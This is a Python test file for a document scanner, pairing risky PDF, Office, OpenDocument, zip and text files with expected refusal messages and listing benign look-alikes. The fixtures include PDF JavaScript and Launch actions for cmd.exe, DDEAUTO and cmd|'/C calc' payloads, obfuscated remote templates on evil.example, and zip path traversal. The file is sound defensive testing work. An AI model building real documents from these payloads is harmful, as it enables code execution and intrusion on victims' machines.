"""Files judged by how they are built: each that is refused with its words, each that only looks like one."""

from __future__ import annotations

import gzip
import io
import stat
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.documents.files import packages as p
from tests.documents.files import pdfs
from tests.documents.files.corpus import EXE, HTML, OLE, archive, image, odf, ooxml, pdf
from tests.documents.files.verdicts import File
from tests.documents.files.words import (
    CARRIED,
    CONTROL,
    DAMAGED,
    DDE,
    EMBEDDED,
    ENCRYPTED,
    ENTRY_PATH,
    LINK,
    MACRO,
    MISMATCH,
    NESTED,
    PDF_FORM,
    PDF_MEDIA,
    PDF_OTHER_FILE,
    PDF_SCRIPT,
    REMOTE,
    TEMPLATE,
    TWICE,
    TWO_FILES,
    TYPE,
)

PDF, DOCX, XLSX, PPTX, ZIP = "表.pdf", "文.docx", "表.xlsx", "簡.pptx", "包.zip"
ODT, ODS, ODP = "文.odt", "表.ods", "簡.odp"
ODT_MIME = "application/vnd.oasis.opendocument.text"
EXCEL = "application/vnd.ms-excel."
CHART = {"word/charts/chart1.xml": "<c/>", "word/embeddings/book.xlsx": ooxml("xlsx")}
BOOK = p.relations(("package", 'Target="../embeddings/book.xlsx"'))
INDEXES: dict[str, bytes | str] = {
    "Basic/script-lc.xml": p.LIBRARIES,
    "Basic/Standard/script-lb.xml": p.EMPTY_LIBRARY,
    "Dialogs/dialog-lc.xml": p.LIBRARIES,
    "Dialogs/Standard/dialog-lb.xml": p.EMPTY_LIBRARY,
}
RUN = 'script:language="ooo:script" xlink:href="vnd.sun.star.script:a.b.c?language=Basic&amp;location=document"'
PRESS = f'<script:event-listener script:event-name="dom:click" {RUN}/>'
CLICK = '<presentation:event-listener script:event-name="dom:click" presentation:action="{}"/>'


def with_comment(size: int) -> bytes:
    """A zip with a comment behind it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("a.exe", EXE)
        packed.comment = b"c" * size
    return out.getvalue()


def _pdf(words: str, *files: bytes) -> list[tuple[File, str]]:
    return [(File(PDF, data), words % PDF) for data in files]


def _same(words: str, name: str, *files: bytes) -> list[tuple[File, str]]:
    return [(File(name, data), words % name) for data in files]


SCRIPT = pdfs.script()
OTHER = String("other.pdf")
BAD: list[tuple[File, str]] = [
    # PDF: code, wherever a reader would find it
    *_pdf(
        PDF_SCRIPT,
        pdfs.with_names("JavaScript", String("x"), SCRIPT),
        pdfs.with_name_kids(),
        pdfs.annotated("Link", A=SCRIPT),
        pdfs.annotated("Square", AA=Dictionary(E=SCRIPT)),
        pdfs.annotated("Link", PA=SCRIPT),
        pdfs.with_field(AA=Dictionary(K=SCRIPT)),
        pdfs.with_outline(A=pdfs.action("Launch", F=String("cmd.exe"))),
        pdfs.linked(S=Name.URI, URI=String("https://example.org"), Next=SCRIPT),
        pdfs.linked(S=Name.Named, N=Name.NextPage, Next=Array([pdfs.action("Hide"), SCRIPT])),
        pdfs.linked(S=Name.URI, URI=String("JavaScript:app.alert(1)")),
        pdfs.packed(),
        pdfs.escaped(),
        pdf(AA=Dictionary(WC=SCRIPT)),
    ),
    *_pdf(
        PDF_FORM,
        pdf(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>"))),
        pdfs.opening("SubmitForm", F=String("https://example.org/")),
        pdfs.opening("ImportData", F=String("data.fdf")),
        pdfs.with_field(A=pdfs.action("SubmitForm", F=String("mailto:a@example.org"))),
    ),
    *_pdf(
        PDF_OTHER_FILE,
        pdfs.opening("GoToR", F=OTHER, D=Array([0, Name.Fit])),
        pdfs.linked(S=Name.GoToE, T=Dictionary(R=Name.C, N=OTHER)),
        pdfs.with_outline(A=pdfs.action("GoToR", F=OTHER)),
    ),
    *_pdf(
        PDF_MEDIA,
        pdfs.annotated("RichMedia", RichMediaContent=Dictionary()),
        pdfs.annotated("3D"),
        pdfs.annotated("Movie"),
        pdfs.annotated("Sound"),
        pdfs.annotated("Screen", A=pdfs.action("Rendition", OP=0)),
        pdfs.opening("RichMediaExecute"),
    ),
    *_pdf(CARRIED, pdfs.associated(), pdfs.pinned()),
    *_pdf(ENCRYPTED, pdfs.for_certificates(), pdf(encryption=pikepdf.Encryption(owner="a", user="b", R=4))),
    *_pdf(DAMAGED, pdfs.linearized()[:-2000], pdf()[:-8], b"\x00" * 40 + b"%PDF-1.7\nnothing\n%%EOF"),
    *_pdf(
        TWO_FILES,
        pdf() + HTML,
        pdf() + b"\n\n" + EXE,
        pdf() + archive({"a.txt": "x"}) + b"\n",
        pdf() + with_comment(900),
        pdf() + with_comment(2048),
        pdf() + b"%" * 2000,
    ),
    (File(PDF, b"\x00" * 1020 + pdf()), MISMATCH % (PDF, ".pdf", "無法辨認的資料")),
    # Word, Excel, PowerPoint: code and objects by type and relation
    *_same(
        MACRO,
        XLSX,
        p.typed("xl/worksheets/sheet9.xml", f"{EXCEL}macrosheet+xml", kind="xlsx"),
        p.typed("xl/worksheets/sheet9.xml", f"{EXCEL}intlmacrosheet+xml", kind="xlsx"),
        ooxml("xlsx", entries={"xl/_rels/workbook.xml.rels": p.relations(("xlMacrosheet", 'Target="s.xml"'))}),
    ),
    *_same(
        MACRO,
        DOCX,
        p.typed("word/media/image1.png", "application/vnd.ms-office.vbaProject", OLE),
        p.pointing("vbaProject", "media/image1.png", outside=False),
        p.pointing("control", "controls/one.xml", outside=False),
        ooxml(entries={"word/vba%50roject.bin": OLE}),
        ooxml(types='<Default Extension="dat" ContentType="application/vnd.ms-office.activeX"/>', entries={"x.dat": "x"}),
    ),
    *_same(
        TEMPLATE,
        DOCX,
        p.pointing("attachedTemplate", "&#104;&#x74;tps://evil.example/t.dotm"),
        p.pointing("attachedTemplate", "HTTPS://evil.example/t.dotm", encoding="utf-16"),
        p.pointing("attachedTemplate", "\\\\server\\share\\t.dotm"),
        p.pointing("attachedTemplate", "file://server/t.dotm"),
        p.pointing("attachedTemplate", "%68ttps://evil.example/t.dotm"),
    ),
    (File(DOCX, p.pointing("frame", "https://evil.example/")), REMOTE % (DOCX, "https://evil.example/")),
    (File(DOCX, p.pointing("oleObject", "mhtml:https://evil.example/x!x")),
     REMOTE % (DOCX, "mhtml:https://evil.example/x!x")),
    (File(DOCX, p.pointing("oleObject", "embeddings/one.bin", outside=False)), EMBEDDED % (DOCX, "embeddings/one.bin")),
    (File(DOCX, p.pointing("aFChunk", "chunk.rtf", outside=False)), EMBEDDED % (DOCX, "chunk.rtf")),
    (File(DOCX, ooxml(entries={"word/embeddings/one.bin": OLE})), EMBEDDED % (DOCX, "word/embeddings/one.bin")),
    (File(DOCX, ooxml(entries={"word/media/image1.png": EXE})), EMBEDDED % (DOCX, "word/media/image1.png")),
    (File(PPTX, ooxml("pptx", entries={"ppt/media/a.emf": b"\x7fELF" + bytes(99)})), EMBEDDED % (PPTX, "ppt/media/a.emf")),
    (File(DOCX, ooxml(entries={"word/media/a.png": archive({"a.txt": "x"})})), EMBEDDED % (DOCX, "word/media/a.png")),
    (File(DOCX, ooxml(entries={"word/embeddings/a.xlsx": p.typed("xl/v.bin", "application/vnd.ms-office.vbaProject",
                                                                 kind="xlsx")})),
     MACRO % f"{DOCX} › word/embeddings/a.xlsx"),
    (File(DOCX, ooxml(entries={"word/embeddings/a.xlsm": ooxml("xlsx")})), EMBEDDED % (DOCX, "word/embeddings/a.xlsm")),
    *_same(
        DAMAGED,
        DOCX,
        archive({"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>"}),
        archive({"[Content_Types].xml": "<Types/>", "_rels/.rels": p.relations(("officeDocument", 'Target="no.xml"'))}),
        ooxml(entries={"word/_rels/a.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        ooxml(entries={"word/document.xml": '<?xml version="1.0" encoding="uf-8"?><d/>'}),
    ),
    *_same(
        DDE,
        DOCX,
        p.field(("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",)),
        p.field((" DDE", "AUTO excel"), "word/footer1.xml"),
        ooxml(entries={"word/document.xml": '<d><fldSimple instr=" dde excel a b"/></d>'}),
    ),
    *_same(
        DDE,
        XLSX,
        p.typed("xl/externalLinks/externalLink1.xml", p.EXTERNAL_LINK, '<a><ddeLink ddeService="cmd"/></a>', kind="xlsx"),
        p.typed("xl/worksheets/sheet1.xml", p.WORKSHEET, "<a><f>cmd|'/C calc'!A0</f></a>", kind="xlsx"),
    ),
    *_same(
        DDE,
        ODS,
        p.saying("<table:dde-link/>", kind="ods"),
        p.saying("<table:table-cell table:formula='of:=DDE(\"soffice\";\"a\";\"b\")'/>", kind="ods"),
    ),
    # OpenDocument: code by its elements
    *_same(
        MACRO,
        ODT,
        odf(entries=INDEXES | {"Basic/Standard/script-lb.xml": p.MODULE}),
        odf(entries={"Basic/Standard/script-lc.xml": p.MODULE}),
        odf(entries={"Scripts/python/script-lb.xml": "x"}),
        odf(entries={"Basic/Standard/x.pba": "x"}),
        odf(entries={"Basic/script-lc.xml": p.LIBRARIES.replace('link="false"', 'link="true"')}),
        odf(entries={"Basic/Standard/script-lb.xml": f'<a {p.LIBRARY}><library:element library:name="X"/></a>'}),
        odf(entries={"elsewhere.xml": p.MODULE}),
        p.bound(PRESS),
        p.saying(PRESS, part="styles.xml"),
        p.saying(f"<text:a {RUN}>請按這裡</text:a>"),
        p.saying('<text:a xlink:href="&#109;acro:///Standard.X.Y">請按這裡</text:a>'),
        p.saying('<office:scripts><office:script script:language="ooo:Basic">Sub</office:script></office:scripts>'),
        p.saying('<menu:menuitem menu:id="vnd.sun.star.script:a"/>', part="Configurations2/menubar/menubar.xml"),
    ),
    *_same(MACRO, ODP, p.bound(CLICK.format("execute"), "odp"), p.bound(CLICK.format("verb"), "odp")),
    (File(ODT, odf(entries={"Pictures/a.png": EXE})), EMBEDDED % (ODT, "Pictures/a.png")),
    (File(ODT, odf(entries={"Object 1": OLE})), EMBEDDED % (ODT, "Object 1")),
    *_same(
        ENCRYPTED, ODT, odf(manifest=p.manifest(p.entry("content.xml", inner="<manifest:encryption-data/>")))
    ),
    *_same(
        DAMAGED,
        ODT,
        odf(manifest=p.manifest(p.entry("/", "application/vnd.oasis.opendocument.spreadsheet"))),
        odf(manifest="<manifest>"),
    ),
    # archives: what is in them is what is taken out of them
    (File(ZIP, p.symlink()), LINK % (ZIP, "捷徑.txt")),
    (File(ZIP, p.special_zip("裝置.txt", stat.S_IFCHR)), LINK % (ZIP, "裝置.txt")),
    (File(DOCX, p.symlink()), LINK % (DOCX, "捷徑.txt")),
    (File(ZIP, p.twice("a.txt", "a.txt")), TWICE % (ZIP, "a.txt")),
    (File(ZIP, p.renamed("a.txt", "../../a.txt")), ENTRY_PATH % (ZIP, "../../a.txt")),
    (File(ZIP, p.renamed("a.txt", "a.exe")), TYPE % (f"{ZIP} › a.exe", ".exe")),
    (File(ZIP, p.renamed("a.txt", "a.rar")), NESTED % (ZIP, "a.rar")),
    (File(ZIP, archive({"a.jpg": image("JPEG") + HTML})), TWO_FILES % f"{ZIP} › a.jpg"),
    (File(ZIP, archive({"a.png": image() + b"x" + EXE, "b.png": image() + EXE})), TWO_FILES % f"{ZIP} › b.png"),
    (File(ZIP, archive({"a.png": image() + b"x" + archive({"a.exe": EXE})})), TWO_FILES % f"{ZIP} › a.png"),
    (File(ZIP, archive({"a.pdf": pdf(OpenAction=SCRIPT)})), PDF_SCRIPT % f"{ZIP} › a.pdf"),
    # text
    (File("表.csv", "甲\n乙\n丙\x1b[0m".encode()), CONTROL % ("表.csv", 3, "U+001B")),
    (File("文.txt", b"a\x00b"), CONTROL % ("文.txt", 1, "U+0000")),
    (File("文.txt", "功能\r\n\x07".encode("cp950")), CONTROL % ("文.txt", 2, "U+0007")),
]  # fmt: skip
GOOD: list[File] = [
    # PDF: words are words
    *(
        File(PDF, data)
        for data in (
            pdfs.linked(S=Name.URI, URI=String("https://example.org/JavaScript/JS?/Launch#/EF")),
            pdfs.titled("HTML/CSS/JS /JavaScript /Launch"),
            pdfs.saying(b"/JavaScript /Launch /OpenAction"),
            pdfs.with_outline(),
            pdfs.with_outline(A=pdfs.action("GoTo", D=String("/JavaScript"))),
            pdfs.linked(S=Name.Named, N=Name.NextPage),
            pdfs.with_field(A=pdfs.action("ResetForm")),
            pdfs.with_names("JavaScript"),
            pdfs.with_names("EmbeddedFiles"),
            pdfs.with_names("Dests", String("/JavaScript"), Array([0, Name.Fit])),
            pdfs.annotated("Text", Contents=String("/RichMedia")),
            pdfs.tagged(),
            pdfs.linearized(3),
            pdfs.revised(),
            pdfs.revised(forgotten=True),
            pdf(encryption=pikepdf.Encryption(owner="secret", user="", R=6)),
            pdf(encryption=pikepdf.Encryption(owner="secret", user="", R=4)),
            b"\xef\xbb\xbf" + pdf(),
            b"\xef\xbb\xbf\r\n" + pdf(),
            bytes(512) + pdf(pages=2),
            pdf() + bytes(5000),
            pdf() + b"\r\n\x1a",
            pdf() + b"\n% made by a gateway\n",
        )
    ),
    # Office
    File(DOCX, p.typed_by_default("docx")),
    File(XLSX, p.typed_by_default("xlsx")),
    File(DOCX, p.strict_package()),
    File(DOCX, ooxml(entries=CHART | {"word/charts/_rels/chart1.xml.rels": BOOK})),
    File(DOCX, p.pointing("hyperlink", "https://example.org/attachedTemplate")),
    File(DOCX, p.pointing("image", "https://example.org/a.png")),
    File(DOCX, p.pointing("attachedTemplate", "file:///C:\\Users\\陳\\Normal.dotm")),
    File(DOCX, p.pointing("attachedTemplate", "Normal.dotm")),
    File(DOCX, ooxml(entries={"word/document.xml": "<d>vbaProject macroEnabled attachedTemplate https://x</d>"})),
    File(DOCX, ooxml(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
    File(DOCX, ooxml(entries={"word/media/image1.emz": gzip.compress(b"\x01\x00\x00\x00", mtime=0)})),
    File(XLSX, ooxml("xlsx", entries={"xl/printerSettings/printerSettings1.bin": "HP".encode("utf-16")})),
    File(
        PPTX, ooxml("pptx", entries={"ppt/media/image1.jpeg": image("JPEG"), "ppt/media/m.mp4": b"\0\0\0\x18ftypmp42"})
    ),
    File(DOCX, ooxml(entries={"word/document.xml": "<d><w:t>DDEAUTO cmd</w:t><w:instrText>PAGE</w:instrText></d>"})),
    File(DOCX, p.field((" HYPERLINK ", "https://example.org/DDE"))),
    File(
        XLSX, p.typed("xl/worksheets/sheet1.xml", p.WORKSHEET, """<a><f>A1&amp;"x|y"</f><f>'a|b'!A1</f></a>""", "xlsx")
    ),
    File(ODS, p.saying("<table:table-cell table:formula='of:=SUM([.A1:.A3])'/><text:p>DDE(1)</text:p>", kind="ods")),
    # OpenDocument
    File(ODT, odf(entries=INDEXES)),
    File(ODT, odf(entries={"Configurations2/accelerator/current.xml": "", "settings.xml": "<a:b><c></a:b>"})),
    File(ODT, odf(manifest=p.UNDECLARED)),
    File(ODT, odf(manifest=p.manifest(p.entry("/", ODT_MIME) + p.entry("Pictures/encryption-data.png", "image/png")))),
    File(ODT, p.saying('<text:p text:style-name="macro:x">vnd.sun.star.script:a 巨集</text:p><office:scripts/>')),
    File(ODT, p.saying('<text:a xlink:href="https://example.org/macro:">網站</text:a>')),
    File(ODP, p.bound(CLICK.format("next-page"), "odp")),
    File(ODT, odf(entries={"Object 1/content.xml": "<chart/>", "ObjectReplacements/Object 1": b"VCLMTF\x01"})),
    # archives
    File(ZIP, p.special_zip("a.txt", stat.S_IFREG)),
    File(ZIP, p.twice("夾/", "夾/", "夾/a.txt")),
    File(ZIP, p.renamed("a.txt", "計畫.txt")),
    File(ZIP, archive({"動態照片.jpg": image("JPEG") + b"\x00\x00\x00\x18ftypmp42" + bytes(40)})),
    # text
    File("列印.txt", "第一頁\f第二頁\v同一段".encode()),
    File("列印.csv", "a,b\r\n\f1,2".encode("cp950")),
]
